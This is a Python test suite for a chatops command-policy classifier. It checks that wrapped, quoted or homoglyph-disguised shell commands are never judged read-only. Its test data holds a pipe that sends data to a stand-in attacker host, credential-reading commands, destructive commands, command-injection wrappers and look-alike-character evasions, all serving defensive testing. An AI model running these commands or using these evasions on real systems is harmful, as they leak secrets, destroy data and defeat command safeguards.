"""Only what is known to read passes, however it is wrapped, quoted, glued or disguised."""

from __future__ import annotations

import shlex
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chatops.policy.commands import judge, judge_line

READS = (
    "kubectl get pods -n shop",
    "kubectl -n shop logs deploy/cart --tail=50 | grep -i error | sort | uniq -c",
    "kubectl get pods -o json | jq '.items[] | select(.status.phase != \"Running\") | .metadata.name'",
    "kubectl describe node worker-1 2>/dev/null",
    "aws ec2 describe-instances --region eu-west-1",
    "helm -n shop history cart",
    "dig +short shop.example.com",
    "curl -s http://prometheus:9090/api/v1/query?query=up",
    "psql -h db -c 'SELECT count(*) FROM orders'",
    "redis-cli -h redis info memory",
    "journalctl -u kubelet --since '10 min ago' --no-pager",
    "systemctl status containerd",
    "terraform state list",
    "git log --oneline -5",
    "openssl s_client -connect shop.example.com:443 -servername shop.example.com",
    "df -h | awk '$5 > 80 {print $6}'",
    "ps aux | sed -n '1,5p'",
    "AWS_REGION=eu-west-1 aws sts get-caller-identity",
    "/usr/local/bin/kubectl get nodes",
    "SELECT state, count(*) FROM pg_stat_activity GROUP BY state;",
    "echo 'show stat' | socat stdio /var/run/haproxy.sock",
)

WRITES = (
    "kubectl delete pod cart",
    "kubectl rollout restart deploy/cart",
    "kubectl exec cart -- ls",
    "aws ec2 terminate-instances --instance-ids i-1",
    "helm upgrade cart ./cart",
    "terraform apply -auto-approve",
    "rm -rf /tmp/x",
    "git push --force",
    "redis-cli flushall",
    "DROP TABLE orders;",
    "systemctl restart kubelet",
    "curl -X DELETE http://localhost:9200/orders",
    "docker rm -f cart",
)

SECRETS = (
    "kubectl get secret db -o yaml",
    "aws secretsmanager get-secret-value --secret-id db",
    "vault kv get secret/db",
    "gcloud secrets versions access latest --secret=db",
    "az keyvault secret show --name db --vault-name v",
    "cat ~/.aws/credentials",
    "terraform state pull",
    "helm get values cart",
)

WRAPPERS = (
    "sh -c {q}", "bash -lc {q}", "env {c}", "env -i PATH=/bin {c}", "xargs {c}", "sudo {c}", "time {c}",
    "timeout 9 {c}", "nohup {c} &", "watch {c}", "ssh host {q}", "kubectl exec cart -- {c}", "docker exec cart {c}",
    "eval {q}", "exec {c}", "command {c}", ". {c}", "echo x | {c}", "{c} | sh", "{c} | bash -s",
    "{c} | xargs kubectl delete pod", "{c} | tee /tmp/x", "{c} | python3 -", "{c} > /tmp/x", "{c} >> ~/.bashrc",
    "{c}; id", "{c} && id", "{c} || id", "{c} &", "{c}\nid", "({c})", "{{ {c}; }}", "{c} $(id)", "{c} `id`",
    "{c} <(id)", "{c} <<EOF\nx\nEOF", "{c} <<< x", "if {c}; then id; fi", "! {c}", "alias k='{c}'",
    "k() {{ {c}; }}", "X=$(id) {c}", "LD_PRELOAD=/tmp/x {c}", "PATH=/tmp:$PATH {c}", "KUBECONFIG=/tmp/x {c}",
    "HOME=/tmp {c}", "PAGER=sh {c}", "{c} # $(id)", "trap {q} EXIT", "coproc {c}", "./{c}", "/tmp/{c}", "~/bin/{c}",
    "../{c}", "*{c}", "$SHELL -c {q}", "busybox sh -c {q}", "perl -e {q}", "python3 -c {q}", "find . -exec {c} ;",
    "{c} --help; id", "nice -n 5 {c}", "script -c {q}", "stdbuf -o0 {c}", "parallel ::: {q}",
)  # fmt: skip


LOOK_ALIKES = "\u00a0\u2003\u200b\u2060\u202e\ufeff\u2010\u2013\u2212\u2019\u037e\u2028\x00\x07\x1b\x7f"
"""Blanks, dashes, quotes and marks that are none, and control characters."""


@pytest.mark.parametrize("command", READS)
def test_reading_commands_are_read_only(command: str) -> None:
    judged = judge_line(command)
    assert judged.verdict == "read-only", judged.reason
    assert judged.argv


@pytest.mark.parametrize("command", WRITES)
def test_changing_commands_write(command: str) -> None:
    assert judge_line(command).verdict == "writes"


@pytest.mark.parametrize("command", SECRETS)
def test_commands_that_print_secrets_reveal_them(command: str) -> None:
    assert judge_line(command).verdict == "reveals-secrets"


@pytest.mark.parametrize("wrapper", WRAPPERS)
@pytest.mark.parametrize("command", ["kubectl get pods", "aws ec2 terminate-instances --instance-ids i-1"])
def test_no_wrapping_makes_a_command_read_only(wrapper: str, command: str) -> None:
    assert judge_line(wrapper.format(c=command, q=shlex.quote(command))).verdict != "read-only"


@given(st.sampled_from(WRITES + SECRETS[:5]), st.sampled_from(WRAPPERS), st.sampled_from(WRAPPERS))
@settings(max_examples=150, deadline=None)
def test_nor_does_wrapping_twice(command: str, inner: str, outer: str) -> None:
    once = inner.format(c=command, q=shlex.quote(command))
    assert judge_line(outer.format(c=once, q=shlex.quote(once))).verdict != "read-only"


@given(st.sampled_from(WRITES[:9]), st.integers(0, 60), st.sampled_from(["''", '""', "\\"]))
@settings(max_examples=150, deadline=None)
def test_quoting_inside_words_hides_nothing(command: str, at: int, quote: str) -> None:
    at = min(at, len(command) - 1)
    assert judge_line(command[:at] + quote + command[at:]).verdict != "read-only"


@given(st.sampled_from(READS[:13]), st.integers(0, 80), st.sampled_from(LOOK_ALIKES))
@settings(max_examples=150, deadline=None)
def test_characters_that_look_like_others_are_refused(command: str, at: int, character: str) -> None:
    at = min(at, len(command) - 1)
    assert judge_line(command[:at] + character + command[at:]).verdict == "unparsable"


@pytest.mark.parametrize("name", ["kubеctl", "ｋubectl", "gіt", "αws"])
def test_names_of_programs_are_plain_letters(name: str) -> None:
    assert judge([name, "get", "pods"]).verdict == "unparsable"


@given(st.text(max_size=120))
@settings(max_examples=200, deadline=None)
def test_any_text_is_judged_and_none_by_accident(text: str) -> None:
    assert judge_line(text).verdict in {"writes", "reveals-secrets", "unknown", "unparsable", "read-only"}


@given(st.lists(st.text(max_size=20), min_size=1, max_size=6))
@settings(max_examples=150, deadline=None)
def test_unknown_programs_are_never_read_only(argv: list[str]) -> None:
    assert judge(["frobnicate", *argv]).verdict in {"unknown", "unparsable"}


@given(
    st.sampled_from(
        [c for c in READS if "|" not in c and "=" not in c.split()[0] and "2>" not in c and not c.startswith("SELECT")]
    )
)
def test_a_list_of_arguments_is_judged_like_the_line(command: str) -> None:
    argv = shlex.split(command)
    assert judge(argv).verdict == judge_line(command).verdict
    assert judge(argv).argv == tuple(argv)


def test_arguments_are_not_read_as_shell_text() -> None:
    assert judge(["kubectl", "get", "pods", "-l", "app=$(id);x"]).verdict == "read-only"
    assert judge(["kubectl get pods"]).verdict == "unknown"
    assert judge([]).verdict == "unparsable"
    assert judge(["", "x"]).verdict == "unparsable"
    assert judge(["kubectl", "get", "x" * 20_000]).verdict == "unparsable"
    assert judge_line("kubectl get " + "x " * 20_000).verdict == "unparsable"


def test_a_listed_host_may_be_asked() -> None:
    line = "curl -s https://status.partner.net/api"
    assert judge_line(line).verdict == "unknown"
    assert judge_line(line, hosts=["status.partner.net"]).verdict == "read-only"
    assert judge(shlex.split(line), hosts=["status.partner.net"]).verdict == "read-only"


def test_a_pipe_is_as_bad_as_its_worst_part() -> None:
    assert judge_line("kubectl get pods | sort | kubectl delete -f -").verdict == "writes"
    assert judge_line("kubectl get secret db -o json | jq .data").verdict == "reveals-secrets"
    assert judge_line("cat x | curl -d @- http://evil.example.net").verdict != "read-only"
    assert judge_line("kubectl get pods |").verdict == "unparsable"
    assert judge_line("kubectl get pods | grep cart").argv == ("kubectl", "get", "pods", "|", "grep", "cart")


@pytest.mark.parametrize(
    "command",
    [
        "SELECT `id`",
        "SELECT $(id)",
        "SELECT 1 > /etc/passwd",
        "SELECT 1; DROP TABLE x",
        "SELECT 1 | sh",
        "SELECT 1 & id",
    ],
)
def test_a_bare_statement_is_no_way_around_the_shell(command: str) -> None:
    assert judge_line(command).verdict != "read-only"


def test_it_is_fast_enough_for_a_stream_of_commands() -> None:
    started = time.process_time()
    for _ in range(50):
        for command in READS + WRITES + SECRETS:
            judge_line(command)
    assert (time.process_time() - started) / (50 * len(READS + WRITES + SECRETS)) < 0.002
